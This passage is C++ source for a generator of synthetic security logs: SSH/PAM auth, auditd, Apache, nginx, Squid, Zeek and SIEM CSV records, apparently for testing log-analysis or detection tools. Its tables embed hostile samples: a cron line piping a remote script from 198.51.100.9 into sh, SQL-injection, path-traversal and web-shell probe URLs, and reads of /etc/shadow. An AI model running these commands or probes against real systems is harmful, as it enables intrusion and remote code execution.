    const Ip from = rng.percent(60) ? external_ip(rng, 10) : internal_ip(rng);
    auto from_port = [&] {
      out += " from ";
      add_ip(out, from);
      out += " port ";
      add_dec(out, rng.between(1024, 65535));
    };
    const uint32_t kind = rng.below(12);
    switch (kind) {
      case 0:
      case 1:
        out += "Failed password for ";
        if (rng.percent(40)) {
          out += "invalid user ";
          out += rng.pick(kGuessedUsers);
        } else {
          out += rng.percent(50) ? "root" : user;
        }
        from_port();
        out += " ssh2";
        break;
      case 2:
        out += "Invalid user ";
        out += rng.pick(kGuessedUsers);
        from_port();
        break;
      case 3:
        out += "Accepted password for ";
        out += user;
        from_port();
        out += " ssh2";
        break;
      case 4:
        out += "Accepted publickey for ";
        out += user;
        from_port();
        out += " ssh2: ";
        out += rng.percent(70) ? "ED25519 SHA256:" : "RSA SHA256:";
        add_keyed_hex(out, user.size() * 31 + static_cast<uint8_t>(user[0]), 43, false);
        break;
      case 5:
        out += "pam_unix(sshd:session): session opened for user ";
        out += user;
        out += "(uid=";
        add_dec(out, 1000 + user.size());
        out += ") by (uid=0)";
        break;
      case 6:
        out += "pam_unix(sshd:session): session closed for user ";
        out += user;
        break;
      case 7:
        out += "Received disconnect";
        from_port();
        out += ":11: disconnected by user";
        break;
      case 8:
        out += "Disconnected from user ";
        out += user;
        out.push_back(' ');
        add_ip(out, from);
        out += " port ";
        add_dec(out, rng.between(1024, 65535));
        break;
      case 9:
        out += "Connection closed by authenticating user ";
        out += rng.pick(kGuessedUsers);
        out.push_back(' ');
        add_ip(out, from);
        out += " port ";
        add_dec(out, rng.between(1024, 65535));
        out += " [preauth]";
        break;
      case 10:
        out +=
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
            "rhost=";
        add_ip(out, from);
        out += "  user=";
        out += rng.percent(50) ? std::string_view("root") : user;
        break;
      default:
        out += "Connection reset by ";
        add_ip(out, from);
        out += " port ";
        add_dec(out, rng.between(1024, 65535));
        out += " [preauth]";
        break;
    }
  } else if (what < 70) {
    const uint32_t kind = rng.below(3);
    if (kind == 0) {
      out += "sudo: ";
      for (size_t i = user.size(); i < 8; ++i) out.push_back(' ');
      out += user;
      out += " : ";
      if (rng.percent(5)) out += "3 incorrect password attempts ; ";
      out += "TTY=pts/";
      add_dec(out, rng.below(6));
      out += " ; PWD=/home/";
      out += user;
      out += " ; USER=root ; COMMAND=";
      const Program& p = kLinuxPrograms[rng.below(kLinuxPrograms.size())];
      command_line(out, p, user, rng.pick(kFileStems));
    } else if (kind == 1) {
      out += "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ";
      out += user;
      out += "(uid=";
      add_dec(out, 1000 + user.size());
      out += ')';
    } else {
      out += "sudo: pam_unix(sudo:session): session closed for user root";
    }
  } else if (what < 86) {
    tag("CRON");
    const uint32_t kind = rng.below(3);
    const std::string_view owner = rng.percent(70) ? std::string_view("root") : user;
    if (kind == 0) {
      out += "pam_unix(cron:session): session opened for user ";
      out += owner;
      out += "(uid=";
      add_dec(out, owner == "root" ? 0 : 1000 + owner.size());
      out += ") by (uid=0)";
    } else if (kind == 1) {
      out += '(';
      out += owner;
      out += ") CMD (";
      out += rng.pick(std::array<std::string_view, 6>{
          "   cd / && run-parts --report /etc/cron.hourly",
          "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
          "/usr/local/bin/backup.sh >/dev/null 2>&1",
          "[ -x /usr/lib/php/sessionclean ] && "
          "if [ ! -d /run/systemd/system ]; then "
          "/usr/lib/php/sessionclean; fi",
          "/usr/bin/certbot -q renew", "curl -fsS http://198.51.100.9/x.sh | sh"});
      out += ')';
    } else {
      out += "pam_unix(cron:session): session closed for user ";
      out += owner;
    }
  } else if (what < 94) {
    tag("systemd-logind");
    if (rng.percent(50)) {
      out += "New session ";
      add_dec(out, rng.between(1, 9000));
      out += " of user ";
      out += user;
      out += '.';
    } else {
      out += "Session ";
      add_dec(out, rng.between(1, 9000));
      out += " logged out. Waiting for processes to exit.";
    }
  } else if (what < 97) {
    tag("su");
    if (rng.percent(50)) {
      out += "(to root) ";
      out += user;
      out += " on pts/";
      add_dec(out, rng.below(6));
    } else {
      out += "pam_unix(su-l:session): session opened for user root(uid=0) by ";
      out += user;
      out += "(uid=";
      add_dec(out, 1000 + user.size());
      out += ')';
    }
  } else {
    const uint32_t kind = rng.below(4);
    const std::string_view name = rng.pick(kFileStems);
    const uint32_t id = rng.between(1001, 1999);
    if (kind == 0) {
      tag("useradd");
      out += "new user: name=";
      out += name;
      out += ", UID=";
      add_dec(out, id);
      out += ", GID=";
      add_dec(out, id);
      out += ", home=/home/";
      out += name;
      out += ", shell=/bin/bash, from=/dev/pts/";
      add_dec(out, rng.below(4));
    } else if (kind == 1) {
      tag("useradd");
      out += "new group: name=";
      out += name;
      out += ", GID=";
      add_dec(out, id);
    } else if (kind == 2) {
      tag("usermod");
      out += "add '";
      out += name;
      out += "' to group 'sudo'";
    } else {
      tag("passwd");
      out += "pam_unix(passwd:chauthtok): password changed for ";
      out += user;
    }
  }
  out.push_back('\n');
  return 1;
}

// Linux audit log (log_format = ENRICHED, as RHEL and Debian 12 write it):
// system call events of several records (execve, connect, openat) and
// user-space PAM messages of one record each.
uint32_t TextGenerator::State::auditd(std::string& out) {
  tick(300);
  const uint64_t serial_number = ++serial;
  auto head = [&](std::string_view type) {
    out += "type=";
    out += type;
    out += " msg=audit(";
    add_unix(out, now, 3);
    out.push_back(':');
    add_dec(out, serial_number);
    out += "): ";
  };
  const size_t user_index = rng.below(kUsers.size() / 2);
  const std::string_view user = kUsers[user_index];
  const uint32_t uid = 1000 + static_cast<uint32_t>(user_index);
  const bool as_root = rng.percent(40);
  const uint32_t pid = rng.between(900, 4'000'000);
  const uint32_t what = rng.below(100);
  if (what < 62) {
    // execve (59, 60 %), connect (42), openat (257).
    const uint32_t call = what < 40 ? 59 : what < 52 ? 42 : 257;
    const Program& p = kLinuxPrograms[rng.below(kLinuxPrograms.size())];
    const std::string_view stem = rng.pick(kFileStems);
    std::string& args = scratch;
    args.clear();
    command_line(args, p, user, stem);
    head("SYSCALL");
    out += "arch=c000003e syscall=";
    add_dec(out, call);
    if (call == 42 && rng.percent(20)) {
      out += " success=no exit=-111";  // ECONNREFUSED
    } else {
      out += " success=yes exit=";
      add_dec(out, call == 257 ? rng.between(3, 40) : 0);
    }
    out += " a0=";
    add_random_hex(out, rng, rng.between(1, 12));
    out += " a1=";
    add_random_hex(out, rng, 12);
    out += " a2=";
    add_random_hex(out, rng, rng.between(1, 12));
    out += " a3=";
    const uint32_t a3 = rng.below(0x1000);
    add_hex(out, a3, a3 < 0x10 ? 1 : a3 < 0x100 ? 2 : 3);
    out += " items=";
    out += call == 59 ? "2" : call == 42 ? "0" : "1";
    out += " ppid=";
    add_dec(out, pid - rng.between(1, 800));
    out += " pid=";
    add_dec(out, pid);
    out += " auid=";
    add_dec(out, uid);
    const uint32_t id = as_root ? 0 : uid;
    for (std::string_view name :
         {" uid=", " gid=", " euid=", " suid=", " fsuid=", " egid=", " sgid=", " fsgid="}) {
      out += name;
      add_dec(out, id);
    }
    out += " tty=pts";
    add_dec(out, rng.below(6));
    out += " ses=";
    add_dec(out, user_index * 7 + 3);
    out += " comm=\"";
    out += p.name;
    out += "\" exe=\"";
    out += p.image;
    out += "\" subj=unconfined key=";
    const std::string_view key = call == 59   ? (as_root ? "rootcmd" : "exec")
                                 : call == 42 ? "network_connect"
                                              : "etc_watch";
    out += '"';
    out += key;
    out += '"';
    out +=
        "\x1d"
        "ARCH=x86_64 SYSCALL=";
    out += call == 59 ? "execve" : call == 42 ? "connect" : "openat";
    out += " AUID=\"";
    out += user;
    out += '"';
    for (std::string_view name : {" UID=\"", " GID=\"", " EUID=\"", " SUID=\"", " FSUID=\"",
                                  " EGID=\"", " SGID=\"", " FSGID=\""}) {
      out += name;
      out += as_root ? std::string_view("root") : user;
      out += '"';
    }
    out += '\n';
    // A user-space message arriving between the records of a system call,
    // as auditd logs them on busy machines.
    const bool interleave = rng.percent(3);
    if (call == 59) {
      head("EXECVE");
      size_t argc = 1;
      for (const char ch : args) argc += ch == ' ' ? 1 : 0;
      out += "argc=";
      add_dec(out, argc);
      size_t start = 0;
      for (size_t i = 0; start <= args.size(); ++i) {
        size_t end = args.find(' ', start);
        if (end == std::string::npos) end = args.size();
        const std::string_view arg(args.data() + start, end - start);
        out += " a";
        add_dec(out, i);
        out += '=';
        if (arg.empty()) {
          out += "\"\"";
        } else if (arg.find_first_of("\"'") != std::string_view::npos) {
          add_text_hex(out, arg);
        } else {
          out += '"';
          out += arg;
          out += '"';
        }
        start = end + 1;
      }
      out += '\n';
    }
    if (interleave) {
      out += "type=USER_ACCT msg=audit(";
      add_unix(out, now, 3);
      out.push_back(':');
      add_dec(out, ++serial);
      out += "): pid=";
      add_dec(out, rng.between(900, 4'000'000));
      out +=
          " uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:accounting "
          "grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? "
          "terminal=cron res=success'\x1dUID=\"root\" AUID=\"unset\"\n";
    }
    const std::string_view cwd_user = as_root ? std::string_view("/root") : std::string_view();
    head("CWD");
    out += "cwd=\"";
    if (cwd_user.empty()) {
      out += "/home/";
      out += user;
    } else {
      out += cwd_user;
    }
    out += "\"\n";
    if (call == 42) {
      head("SOCKADDR");
      out += "saddr=0200";
      add_hex(out, rng.pick(std::array<uint32_t, 5>{80, 443, 22, 4444, 53}), 4, true);
      add_hex(out, rng.next() & 0xffffffff, 8, true);
      out += "0000000000000000\n";
    } else {
      const uint32_t items = call == 59 ? 2 : 1;
      for (uint32_t item = 0; item < items; ++item) {
        head("PATH");
        out += "item=";
        add_dec(out, item);
        out += " name=\"";
        if (call == 257) {
          out += rng.pick(std::array<std::string_view, 5>{
              "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/hosts", "/etc/ssh/sshd_config"});
        } else {
          out += item == 0 ? p.image : std::string_view("/lib64/ld-linux-x86-64.so.2");
        }
        out += "\" inode=";
        add_dec(out, rng.between(2, 4'000'000));
        out += " dev=08:01 mode=0100";
        out += item == 0 && call == 59 ? "755" : "644";
        out +=
            " ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
            "cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"\n";
      }
    }
    head("PROCTITLE");
    out += "proctitle=";
    // The kernel keeps 128 bytes of the command line, NULs between the
    // arguments.
    const std::string_view title(args.data(), std::min<size_t>(args.size(), 128));
    for (const char ch : title) add_hex(out, ch == ' ' ? 0 : static_cast<uint8_t>(ch), 2, true);
    out += '\n';
    head("EOE");
    out += '\n';
    return interleave ? 2 : 1;
  }
  // PAM's records of an SSH or sudo login, one per serial.
  static constexpr std::array<std::string_view, 7> kTypes = {
      "USER_AUTH", "USER_ACCT", "CRED_ACQ", "USER_START", "USER_LOGIN", "USER_END", "CRED_DISP"};
  static constexpr std::array<std::string_view, 7> kOps = {
      "PAM:authentication", "PAM:accounting", "PAM:setcred", "PAM:session_open", "login",
      "PAM:session_close",  "PAM:setcred"};
  const uint32_t t = rng.below(kTypes.size());
  const bool ssh = rng.percent(70);
  const bool failed = t == 0 && rng.percent(25);
  head(kTypes[t]);
  out += "pid=";
  add_dec(out, pid);
  out += " uid=0 auid=";
  if (t < 3) {
    out += "4294967295 ses=4294967295";
  } else {
    add_dec(out, uid);
    out += " ses=";
    add_dec(out, user_index * 7 + 3);
  }
  out += " subj=unconfined msg='op=";
  out += kOps[t];
  if (t == 4) {
    out += " id=";
    add_dec(out, uid);
  } else {
    out += " grantors=";
    out += failed ? "?" : t == 1 ? "pam_permit" : "pam_unix";
    out += " acct=\"";
    out += failed && rng.percent(50) ? rng.pick(kGuessedUsers) : user;
    out += '"';
  }
  out += ssh ? " exe=\"/usr/sbin/sshd\" hostname=" : " exe=\"/usr/bin/sudo\" hostname=";
  const Ip from = ssh ? external_ip(rng) : Ip{};
  if (ssh) {
    add_ip(out, from);
    out += " addr=";
    add_ip(out, from);
    out += " terminal=ssh";
  } else {
    out += "? addr=? terminal=/dev/pts/";
    add_dec(out, rng.below(6));
  }
  out += failed ? " res=failed'" : " res=success'";
  out += "\x1dUID=\"root\" AUID=\"";
  out += t < 3 ? std::string_view("unset") : user;
  out += "\"\n";
  return 1;
}

constexpr std::array<std::string_view, 14> kUserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Microsoft Office Word 2014"};

// Apache combined format, a public web site: pages, assets, an API, and the
// probes every server on the Internet receives.
uint32_t TextGenerator::State::web(std::string& out) {
  tick(250);
  const bool scanner = rng.percent(8);
  add_ip(out, rng.percent(90) ? external_ip(rng, 12) : internal_ip(rng));
  out += " - ";
  if (rng.percent(5)) {
    out += rng.pick_skewed(kUsers);
  } else {
    out += '-';
  }
  // Local time of a server in Central Europe in winter.
  const CivilTime c = to_civil(Timestamp{now.ticks + 3600 * Timestamp::kTicksPerSecond});
  out += " [";
  add_padded(out, c.day, 2);
  out += '/';
  out += kMonths[c.month - 1];
  out += '/';
  add_dec(out, static_cast<uint64_t>(c.year));
  out += ':';
  add_clock(out, c);
  out += " +0100] \"";
  const uint32_t m = rng.below(100);
  const std::string_view method = m < 84 ? "GET" : m < 95 ? "POST" : m < 98 ? "HEAD" : "PUT";
  out += method;
  out += ' ';
  std::string_view content = "page";
  if (scanner) {
    out += rng.pick(std::array<std::string_view, 10>{
        "/wp-login.php", "/.env", "/.git/config", "/cgi-bin/luci/;stok=/locale",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
        "/phpmyadmin/index.php", "/admin/config.php", "/api/v1/users?id=1%27%20OR%201=1--",
        "/../../../../etc/passwd", "/shell.php?cmd=id"});
    content = "probe";
  } else {
    switch (rng.below(8)) {
      case 0:
        out += rng.pick(std::array<std::string_view, 5>{"/", "/index.html", "/about", "/contact",
                                                        "/favicon.ico"});
        break;
      case 1:
        out += "/static/css/main.";
        add_random_hex(out, rng, 8);
        out += ".css";
        content = "asset";
        break;
      case 2:
        out += "/static/js/app.";
        add_random_hex(out, rng, 8);
        out += ".js";
        content = "asset";
        break;
      case 3:
        out += "/images/";
        out += rng.pick(kFileStems);
        out += rng.percent(50) ? ".png" : ".jpg";
        content = "asset";
        break;
      case 4:
        out += "/api/v1/orders?page=";
        add_dec(out, rng.between(1, 40));
        out += "&limit=50";
        content = "api";
        break;
      case 5:
        out += "/api/v1/users/";
        add_dec(out, rng.between(1, 99999));
        content = "api";
        break;
      case 6:
        out += "/search?q=";
        out += rng.pick(kWords);
        out += '+';
        out += rng.pick(kWords);
        if (rng.percent(20)) out += "&lang=en";
        break;
      default:
        out += "/products/";
        add_dec(out, rng.between(1, 5000));
        out += '/';
        out += rng.pick(kWords);
        break;
    }
  }
  out += rng.percent(70) ? " HTTP/1.1\" " : " HTTP/2.0\" ";
  uint32_t status = 200;
  const uint32_t s = rng.below(100);
  if (scanner) {
    status = s < 80 ? 404 : s < 95 ? 403 : 400;
  } else if (content == "asset") {
    status = s < 70 ? 200 : s < 98 ? 304 : 404;
  } else if (method == "POST") {
    status = s < 60 ? 200 : s < 85 ? 302 : s < 95 ? 401 : 500;
  } else {
    status = s < 90 ? 200 : s < 94 ? 301 : s < 98 ? 404 : 500;
  }
  add_dec(out, status);
  out += ' ';
  if (status == 304 || method == "HEAD") {
    out += '-';
  } else {
    add_dec(out, status == 200 ? rng.between(200, 250000) : rng.between(150, 600));
  }
  out += " \"";
  if (scanner || rng.percent(30)) {
    out += '-';
  } else {
    out += rng.pick(std::array<std::string_view, 4>{
        "https://www.example.com/", "https://www.google.com/",
        "https://www.example.com/search?q=laptop", "https://t.co/x8Yq2"});
  }
  out += "\" \"";
  out += scanner ? kUserAgents[rng.between(8, 12)] : rng.pick_skewed(kUserAgents);
  out += "\"\n";
  return 1;
}

namespace {
constexpr std::array<std::string_view, 7> kWeekdays = {"Thu", "Fri", "Sat", "Sun",
                                                       "Mon", "Tue", "Wed"};  // from 1970-01-01
constexpr std::array<std::string_view, 8> kWebPaths = {
    "/var/www/html/wp-login.php", "/var/www/html/.env",       "/var/www/html/admin/config.php",
    "/var/www/html/favicon.ico",  "/var/www/html/robots.txt", "/var/www/html/cgi-bin/test.cgi",
    "/var/www/html/phpmyadmin",   "/var/www/html/api/v1/cases"};
}  // namespace

// Apache httpd 2.4's error.log: module:level, pid and tid, client, AH codes.
uint32_t TextGenerator::State::apache_error(std::string& out) {
  tick(400);
  const CivilTime c = to_civil(now);
  const int64_t days = now.ticks / Timestamp::kTicksPerSecond / 86400;
  out += '[';
  out += kWeekdays[static_cast<size_t>(days % 7)];
  out += ' ';
  out += kMonths[c.month - 1];
  out += ' ';
  add_padded(out, c.day, 2);
  out += ' ';
  add_clock(out, c);
  out += '.';
  add_padded(out, c.ticks / 10, 6);
  out += ' ';
  add_padded(out, static_cast<uint64_t>(c.year), 4);
  const uint32_t r = rng.below(100);
  static constexpr std::array<std::string_view, 4> kModules = {"core", "php", "ssl", "authz_core"};
  const std::string_view module = r < 50 ? kModules[0] : rng.pick(kModules);
  const std::string_view level = r < 60 ? "error" : r < 85 ? "warn" : r < 97 ? "notice" : "crit";
  out += "] [";
  out += module;
  out += ':';
  out += level;
  out += "] [pid ";
  add_dec(out, rng.between(1000, 40000));
  out += ":tid ";
  add_dec(out, 139700000000000ull + uint64_t{rng.below(100000000)} * 1000);
  out += "] [client ";
  add_ip(out, external_ip(rng, 10));
  out += ':';
  add_dec(out, rng.between(1024, 65535));
  out += "] ";
  switch (rng.below(5)) {
    case 0:
      out += "AH00128: File does not exist: ";
      out += rng.pick(kWebPaths);
      break;
    case 1:
      out += "AH01630: client denied by server configuration: ";
      out += rng.pick(kWebPaths);
      break;
    case 2:
      out += "AH00126: Invalid URI in request GET /..%2f..%2f..%2fetc/passwd HTTP/1.1";
      break;
    case 3:
      out += "PHP Warning:  Undefined variable $";
      out += rng.pick(kWords);
      out += " in ";
      out += rng.pick(kWebPaths);
      out += " on line ";
      add_dec(out, rng.between(1, 900));
      break;
    default:
      out += "AH01797: client denied by server configuration: /var/www/html/server-status";
      break;
  }
  out += '\n';
  return 1;
}

// Nginx's error.log: level, pid#tid, connection, then its key: value list.
uint32_t TextGenerator::State::nginx_error(std::string& out) {
  tick(400);
  const CivilTime c = to_civil(now);
  add_date(out, c, '/');
  out += ' ';
  add_clock(out, c);
  out += rng.percent(80) ? " [error] " : rng.percent(50) ? " [warn] " : " [crit] ";
  add_dec(out, rng.between(1000, 40000));
  out += '#';
  add_dec(out, rng.between(0, 7));
  out += ": *";
  add_dec(out, rng.between(1, 9000000));
  out += ' ';
  const std::string_view path = rng.pick(kWebPaths);
  switch (rng.below(3)) {
    case 0:
      out += "open() \"";
      out += path;
      out += "\" failed (2: No such file or directory)";
      break;
    case 1:
      out += "access forbidden by rule";
      break;
    default:
      out += "upstream timed out (110: Connection timed out) while reading response header from "
             "upstream";
      break;
  }
  out += ", client: ";
  add_ip(out, external_ip(rng, 10));
  out += ", server: www.example.org, request: \"";
  out += rng.percent(85) ? "GET " : "POST ";
  out += path.substr(13);  // without /var/www/html
  out += " HTTP/1.1\", host: \"www.example.org\"\n";
  return 1;
}

// Squid's native access.log of a company proxy.
uint32_t TextGenerator::State::squid(std::string& out) {
  tick(120);
  add_unix(out, now, 3);
  const bool connect = rng.percent(55);
  const uint32_t r = rng.below(100);
  uint32_t status = 200;
  std::string_view action = "TCP_MISS";
  if (connect) {
    action = r < 94 ? "TCP_TUNNEL" : "TCP_DENIED";
    status = r < 94 ? 200 : 403;
  } else if (r < 60) {
    action = "TCP_MISS";
    status = rng.percent(90) ? 200 : 404;
  } else if (r < 80) {
    action = rng.percent(50) ? "TCP_HIT" : "TCP_MEM_HIT";
  } else if (r < 92) {
    action = "TCP_REFRESH_UNMODIFIED";
    status = 304;
  } else {
    action = "TCP_DENIED";
    status = 403;
  }
  const bool denied = action == "TCP_DENIED";
  out.push_back(' ');
  add_padded(out, connect && !denied ? rng.between(100, 600000) : rng.between(0, 3000), 6, ' ');
  out.push_back(' ');
  add_ip(out, internal_ip(rng));
  out.push_back(' ');
  out += action;
  out.push_back('/');
  add_dec(out, status);
  out.push_back(' ');
  if (denied) {
    add_dec(out, rng.between(3500, 4200));
  } else if (status == 304 || status == 404) {
    add_dec(out, rng.between(250, 700));
  } else {
    add_dec(out, rng.next() >> rng.between(43, 60));
  }
  static constexpr std::array<std::string_view, 12> kSites = {"www.google.com",
                                                              "login.microsoftonline.com",
                                                              "outlook.office365.com",
                                                              "github.com",
                                                              "cdn.jsdelivr.net",
                                                              "update.example-vendor.com",
                                                              "intranet.corp.example.com",
                                                              "pastebin.com",
                                                              "api.telegram.org",
                                                              "www.example.com",
                                                              "s3.amazonaws.com",
                                                              "raw.githubusercontent.com"};
  const std::string_view site = rng.pick_skewed(kSites);
  if (connect) {
    out += " CONNECT ";
    out += site;
    out += ":443";
  } else {
    out += rng.percent(85) ? " GET http://" : " POST http://";
    out += site;
    out += '/';
    switch (rng.below(4)) {
      case 0: break;
      case 1:
        out += rng.pick(kWords);
        out += '/';
        out += rng.pick(kFileStems);
        out += ".html";
        break;
      case 2:
        out += "download/";
        out += rng.pick(kFileStems);
        out += rng.percent(50) ? ".exe" : ".zip";
        out += "?v=";
        add_dec(out, rng.between(1, 30));
        break;
      default:
        out += "api/";
        add_random_hex(out, rng, 16);
        break;
    }
  }
  out.push_back(' ');
  if (rng.percent(70)) {
    out += rng.pick_skewed(kUsers);
  } else {
    out.push_back('-');
  }
  if (denied) {
    out += " HIER_NONE/- text/html\n";
    return 1;
  }
  if (action == "TCP_HIT" || action == "TCP_MEM_HIT") {
    out += " HIER_NONE/- ";
  } else {
    out += " HIER_DIRECT/";
    add_ip(out, external_ip(rng, 15));
    out.push_back(' ');
  }
  out += connect ? "-"
                 : rng.pick(std::array<std::string_view, 5>{"text/html", "application/json",
                                                            "image/png", "application/octet-stream",
                                                            "text/javascript"});
  out.push_back('\n');
  return 1;
}

// Zeek conn.log in TSV.
uint32_t TextGenerator::State::zeek(std::string& out) {
  tick(60);
  static constexpr char kBase62[] =
      "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  add_unix(out, now, 6);
  out += "\tC";
  uint64_t bits = rng.next();
  for (int i = 0; i < 17; ++i) {
    if (i == 10) bits = rng.next();
    out.push_back(kBase62[bits % 62]);
    bits /= 62;
  }
  const uint32_t kind = rng.below(100);
  // tcp services 70 %, dns 22 %, other udp 5 %, icmp 3 %.
  const std::string_view proto = kind < 70 ? "tcp" : kind < 97 ? "udp" : "icmp";
  const bool outbound = rng.percent(75);
  const Ip orig = outbound ? internal_ip(rng) : external_ip(rng, 5);
  const Ip resp = outbound ? (kind >= 70 && kind < 92 ? ipv4(10, 1, 0, 53) : external_ip(rng, 5))
                           : internal_ip(rng);
  out.push_back('\t');
  add_ip(out, orig);
  out.push_back('\t');
  add_dec(out, proto == "icmp" ? 8 : rng.between(1024, 65535));
  out.push_back('\t');
  add_ip(out, resp);
  out.push_back('\t');
  std::string_view service = "-";
  uint32_t port = 0;
  if (proto == "tcp") {
    const uint32_t s = rng.below(10);
    port = s < 5 ? 443 : s < 7 ? 80 : s < 8 ? 22 : s < 9 ? 445 : rng.between(1, 65535);
    service = port == 443   ? "ssl"
              : port == 80  ? "http"
              : port == 22  ? "ssh"
              : port == 445 ? "smb,gssapi"
                            : "-";
  } else if (proto == "udp") {
    port = kind < 92 ? 53 : rng.pick(std::array<uint32_t, 3>{123, 137, 5353});
    service = port == 53 ? "dns" : port == 123 ? "ntp" : "-";
  }
  add_dec(out, port);
  out.push_back('\t');
  out += proto;
  out.push_back('\t');
  out += service;
  const uint32_t states = rng.below(100);
  const std::string_view state = proto != "tcp" ? (rng.percent(85) ? "SF" : "S0")
                                 : states < 70  ? "SF"
                                 : states < 80  ? "S0"
                                 : states < 88  ? "REJ"
                                 : states < 94  ? "RSTO"
                                 : states < 97  ? "SH"
                                                : "OTH";
  const bool no_reply = state == "S0" || state == "REJ";
  out.push_back('\t');
  if (no_reply && rng.percent(60)) {
    out += "-\t-\t-";
  } else {
    const uint64_t micros = proto == "udp" ? rng.below(200'000) : rng.below(30'000'000);
    add_dec(out, micros / 1'000'000);
    out.push_back('.');
    add_padded(out, micros % 1'000'000, 6);
    out.push_back('\t');
    if (proto != "tcp") {
      add_dec(out, rng.between(28, 120));
      out.push_back('\t');
      add_dec(out, no_reply ? 0 : rng.between(40, 500));
    } else {
      add_dec(out, no_reply ? 0 : rng.between(40, 20000));
      out.push_back('\t');
      add_dec(out, no_reply ? 0 : rng.next() >> rng.between(40, 62));
    }
  }
  out.push_back('\t');
  out += state;
  out += outbound ? "\tT\tF\t0\t" : "\tF\tT\t0\t";
  out += proto == "icmp"  ? std::string_view("-")
         : proto == "udp" ? (no_reply ? std::string_view("D") : std::string_view("Dd"))
         : state == "SF"
             ? rng.pick(std::array<std::string_view, 3>{"ShADadFf", "ShADadfF", "ShADdaFf"})
         : state == "S0"   ? std::string_view("S")
         : state == "REJ"  ? std::string_view("Sr")
         : state == "RSTO" ? std::string_view("ShADadR")
                           : std::string_view("ShADa");
  const uint32_t orig_pkts = rng.between(1, 60);
  const uint32_t resp_pkts = no_reply ? 0 : rng.between(1, 80);
  out.push_back('\t');
  add_dec(out, orig_pkts);
  out.push_back('\t');
  add_dec(out, orig_pkts * rng.between(40, 900));
  out.push_back('\t');
  add_dec(out, resp_pkts);
  out.push_back('\t');
  add_dec(out, resp_pkts * rng.between(40, 1400));
  out += rng.percent(2) ? "\t(empty)\n" : "\t-\n";
  return 1;
}

// A SIEM export: one row per event of many sources, a time stamp column, a
// host column, command lines quoted when they hold commas or quotes.
uint32_t TextGenerator::State::csv(std::string& out) {
  tick(500);
  append_rfc3339(out, now, 3);
  out.push_back(',');
  const bool windows = rng.percent(60);
  if (windows) {
    out += "WS-";
    add_padded(out, rng.below(300), 3);
  } else {
    out += rng.pick_skewed(kLinuxHosts);
  }
  out.push_back(',');
  const std::string_view user = rng.pick_skewed(kUsers);
  out += user;
  const uint32_t what = rng.below(100);
  std::string& line = scratch;
  if (what < 45) {
    const Program& p = windows ? kWindowsPrograms[rng.below(kWindowsPrograms.size())]
                               : kLinuxPrograms[rng.below(kLinuxPrograms.size())];
    const std::string_view stem = rng.pick(kFileStems);
    out += windows ? ",4688,process_start,,,," : ",execve,process_start,,,,";
    line.clear();
    expand(line, p.image, rng, user, stem);
    add_csv_field(out, line);
    out.push_back(',');
    line.clear();
    command_line(line, p, user, stem);
    add_csv_field(out, line);
    out += ",allowed,,success\n";
    return 1;
  }
  if (what < 75) {
    const bool ok = rng.percent(85);
    out +=
        windows ? (ok ? ",4624,logon," : ",4625,logon,") : (ok ? ",sshd,logon," : ",sshd,logon,");
    add_ip(out, rng.percent(70) ? internal_ip(rng) : external_ip(rng, 10));
    out += ",,";
    add_dec(out, windows ? 445 : 22);
    out += windows ? ",C:\\Windows\\System32\\lsass.exe,," : ",/usr/sbin/sshd,,";
    out += ok ? "allowed,,success\n" : "blocked,,failure\n";
    return 1;
  }
  out += windows ? ",5156,network_connection," : ",netfilter,network_connection,";
  add_ip(out, internal_ip(rng));
  out.push_back(',');
  add_ip(out, external_ip(rng, 10));
  out.push_back(',');
  add_dec(out, rng.pick(std::array<uint32_t, 6>{443, 443, 80, 53, 22, 8443}));
  out.push_back(',');
  out += windows ? rng.pick(std::array<std::string_view, 3>{
                       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                       "C:\\Windows\\System32\\svchost.exe",
                       "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"})
                 : rng.pick(std::array<std::string_view, 3>{"/usr/bin/curl", "/usr/sbin/nginx",
                                                            "/usr/lib/apt/methods/http"});
  out += ",,";
  out += rng.percent(95) ? "allowed," : "blocked,";
  add_dec(out, rng.next() >> rng.between(44, 60));
  out += rng.percent(97) ? ",success\n" : ",failure\n";
  return 1;
}

// --- Public interface --------------------------------------------------------------

std::optional<TextKind> parse_text_kind(std::string_view name) {
  for (TextKind kind : kTextKinds) {
    if (name == text_kind_name(kind)) return kind;
  }
  return std::nullopt;
}

const char* text_kind_name(TextKind kind) {
  switch (kind) {
